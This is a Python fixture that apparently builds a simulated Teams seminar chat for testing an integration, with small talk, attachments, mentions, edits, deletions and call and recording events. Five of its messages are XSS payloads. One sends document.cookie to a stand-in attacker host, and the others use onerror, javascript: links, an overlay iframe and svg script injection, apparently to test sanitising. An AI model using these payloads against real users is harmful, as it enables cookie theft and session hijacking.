"""The seminar's chat: 300 messages within the class, and a few of the weeks before and after in the same thread."""

from collections.abc import Callable, Iterator
from datetime import datetime, timedelta
from functools import partial

from teams_integration.sandbox import artifacts, naming
from teams_integration.sandbox.shapes import Attendee, Span, event, file_reference, mention, message, reaction
from teams_integration.sandbox.stories.cast import INGRID, TOMAS
from teams_integration.sandbox.stories.seminar_people import ENDS_AT, FIRST, GUESTS, LEARNERS, SECOND, STARTS_AT, ZOE
from teams_integration.sandbox.world import Json

COUNT = 300
WEEK = timedelta(days=7)
_BEGINS = STARTS_AT - timedelta(minutes=8)
_PACE = timedelta(seconds=20)
_SLIDES = "Microsoft Teams Chat Files/Week 6 – slides #2 (50%).pdf"
_NOTES, _HANDOUT = "Microsoft Teams Chat Files/Private notes.docx", "Microsoft Teams Chat Files/Handout.pdf"

Teller = Callable[[datetime, str], Json]


def recording_file(span: Span) -> Json:
    """The stamp in the name is local time, as Teams writes it."""
    local = span[0] + timedelta(hours=1)
    name = f"Data Ethics Seminar-{local:%Y%m%d_%H%M%S}-Meeting Recording.mp4"
    size = 1_000_000 * round((span[1] - span[0]).total_seconds() / 6)
    return artifacts.drive_item(INGRID, f"Recordings/{name}", span[0], size, "video/mp4", span[1] - span[0])


_SLIDES_ITEM = artifacts.drive_item(INGRID, _SLIDES, STARTS_AT - timedelta(hours=2), 2_457_600, "application/pdf")
SHARED: dict[str, Json | str] = {
    _SLIDES_ITEM["webUrl"]: _SLIDES_ITEM,
    artifacts.personal_url(TOMAS, _NOTES): "accessDenied",
    artifacts.personal_url(TOMAS, _HANDOUT): "itemNotFound",
}
_SMALL_TALK = (
    "Good afternoon from the library",
    "Is the reading list still the one from week 4?",
    "<p>Yes, <strong>chapter 3</strong> only</p>",
    "I lost sound for a moment",
    '<p>Same here, back now <emoji id="smile" alt="🙂" title="Smile"></emoji></p>',
    "שלום לכולם",
    "+1",
    "+1",
    "Could you repeat the definition?",
    '<div><div>A gauge is <em>evidence</em>, not a <a href="https://example.org/verdict?a=1&amp;b=2">verdict</a></div></div>',
)


def _from(index: int) -> Attendee:
    return Attendee.of(LEARNERS[index * 7 % len(LEARNERS)])


def _talk(index: int) -> Teller:
    def tell(at: datetime, thread: str) -> Json:
        return message(at, _from(index), _SMALL_TALK[index % len(_SMALL_TALK)], thread)

    return tell


def _attached(name: str, url: str, by: Attendee, at: datetime, thread: str) -> Json:
    key = naming.guid("attachment", url)
    attachments = [file_reference(key, name, url)]
    return message(at, by, f'<p>Here it is</p><attachment id="{key}"></attachment>', thread, attachments=attachments)


def _card(at: datetime, thread: str) -> Json:
    card = {
        "id": naming.guid("card"),
        "contentType": "application/vnd.microsoft.card.adaptive",
        "contentUrl": None,
        "content": '{"type":"AdaptiveCard","body":[{"type":"TextBlock","text":"Poll: two sittings?"}]}',
        "name": None,
        "thumbnailUrl": None,
    }
    return message(at, GUESTS["bot"], f'<attachment id="{card["id"]}"></attachment>', thread, attachments=[card])


def _image(at: datetime, thread: str) -> Json:
    key = naming.epoch_milliseconds(at)
    source = f"https://graph.microsoft.com/v1.0/chats/{thread}/messages/{key}/hostedContents/aWQ9eF8w/$value"
    return message(at, _from(4), f'<div><img height="63" src="{source}" width="67"></div>', thread)


def _mentioning(at: datetime, thread: str) -> Json:
    text = f'<p><at id="0">{INGRID.name}</at> does that hold for <at id="1">{ZOE.name}</at>’s example?</p>'
    reactions = [reaction("👍", TOMAS, at + timedelta(minutes=1))]
    return message(at, _from(5), text, thread, mentions=[mention(0, INGRID), mention(1, ZOE)], reactions=reactions)


def _edited(at: datetime, thread: str) -> Json:
    changed = naming.stamp(at + timedelta(minutes=2))
    return message(at, _from(6), "Corrected: page 42", thread, lastModifiedDateTime=changed, lastEditedDateTime=changed)


def _deleted(at: datetime, thread: str) -> Json:
    changed = naming.stamp(at + timedelta(minutes=3))
    return message(at, _from(8), "", thread, lastModifiedDateTime=changed, deletedDateTime=changed)


_ATTACKS = (
    "<script>fetch('https://attacker.example.net/'+document.cookie)</script><p>hello</p>",
    '<img src="x" onerror="alert(1)"><p>a picture</p>',
    '<a href="javascript:alert(1)" onclick="alert(2)">click me</a>',
    '<p style="position:fixed;inset:0">covering</p><iframe src="https://attacker.example.net"></iframe>',
    '<svg><script>alert(1)</script></svg><math><mi xlink:href="data:x,<script>alert(1)</script>"></mi></math>',
)


def _attack(number: int, at: datetime, thread: str) -> Json:
    return message(at, GUESTS["pat"], _ATTACKS[number], thread)


def _recorded(number: int, status: str, at: datetime, thread: str) -> Json:
    """Only a successful one has its final address."""
    sitting = (FIRST, SECOND)[number]
    span = (sitting[0] + timedelta(minutes=(6, 1)[number]), sitting[1] - timedelta(seconds=(8, 30)[number]))
    item = recording_file(span)
    done = status == "success"
    seconds = (span[1] - span[0]).total_seconds()
    return event(
        at,
        "callRecording",
        thread,
        INGRID,
        callId=artifacts.call_id(thread, sitting[0]),
        callRecordingDisplayName=item["name"] if done else None,
        callRecordingUrl=f"{item['webUrl']}?web=1" if done else None,
        callRecordingDuration=f"PT{int(seconds // 60)}M{seconds % 60:.2f}S" if done else "PT0S",
        callRecordingStatus=status,
        meetingOrganizer={"application": None, "device": None, "user": {"id": INGRID.id, "displayName": None}},
    )


def _call(kind: str, number: int, at: datetime, thread: str) -> Json:
    sitting = (FIRST, SECOND)[number]
    detail = {"callId": artifacts.call_id(thread, sitting[0]), "callEventType": "meeting"}
    if kind == "callEnded":
        minutes, seconds = divmod(round((sitting[1] - sitting[0]).total_seconds()), 60)
        detail |= {"callDuration": f"PT{minutes}M{seconds}S"}
    return event(at, kind, thread, INGRID, **detail)


def _transcribed(number: int, at: datetime, thread: str) -> Json:
    call = artifacts.call_id(thread, (FIRST, SECOND)[number][0])
    return event(at, "callTranscript", thread, INGRID, callId=call, callTranscriptICalUid=None)


_SPECIAL: dict[int, Teller] = {
    2: partial(_call, "callStarted", 0),
    9: partial(_attached, "Week 6 – slides #2 (50%).pdf", _SLIDES_ITEM["webUrl"], Attendee.of(INGRID)),
    20: partial(_recorded, 0, "initial"),
    30: _mentioning,
    40: _edited,
    50: _deleted,
    60: _image,
    70: _card,
    80: partial(_attached, "Private notes.docx", artifacts.personal_url(TOMAS, _NOTES), Attendee.of(TOMAS)),
    90: partial(_attached, "Handout.pdf", artifacts.personal_url(TOMAS, _HANDOUT), Attendee.of(TOMAS)),
    **{100 + number: partial(_attack, number) for number in range(len(_ATTACKS))},
    149: partial(_call, "callEnded", 0),
    155: partial(_recorded, 0, "success"),
    156: partial(_transcribed, 0),
    165: partial(_call, "callStarted", 1),
    297: partial(_call, "callEnded", 1),
    298: partial(_recorded, 1, "success"),
    299: partial(_transcribed, 1),
}


def messages(thread: str) -> Iterator[Json]:
    for index in range(COUNT):
        yield _SPECIAL.get(index, _talk(index))(_BEGINS + index * _PACE, thread)


def week_before(thread: str) -> Iterator[Json]:
    for index in range(30):
        yield message(STARTS_AT - WEEK + index * _PACE, _from(index), f"A week earlier, {index}", thread)


def week_after(thread: str) -> Iterator[Json]:
    for index in range(30):
        yield message(ENDS_AT + WEEK + index * _PACE, _from(index), f"A week later, {index}", thread)
